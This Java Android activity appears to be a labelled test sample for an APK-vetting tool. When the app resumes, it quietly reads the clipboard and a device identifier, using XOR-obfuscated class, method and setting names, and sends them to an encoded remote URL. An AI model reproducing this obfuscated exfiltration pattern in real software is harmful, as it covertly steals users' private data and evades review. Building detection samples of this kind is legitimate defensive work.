package org.apkvet.samples.hidden.xordevicekey;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.d("\010_\020Q\011\134\030S\017"));
            Object clip = Class.forName(D.d("\012\135\035S\004Z\035\017\010\134\027U\016\135\015\017\050_\020Q\011\134\030S\017\176\030O\012T\034S")).getMethod(D.d("\014V\015q\031Z\024\100\031J:M\002C")).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.d("\012\135\035S\004Z\035\176\002W"));
            URLConnection connection = new URL(D.d("\003G\015Q\030\011V\016\010\134\025M\016P\015\017\003Z\035E\016\135WD\023R\024Q\007VVB\007Z\011")).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
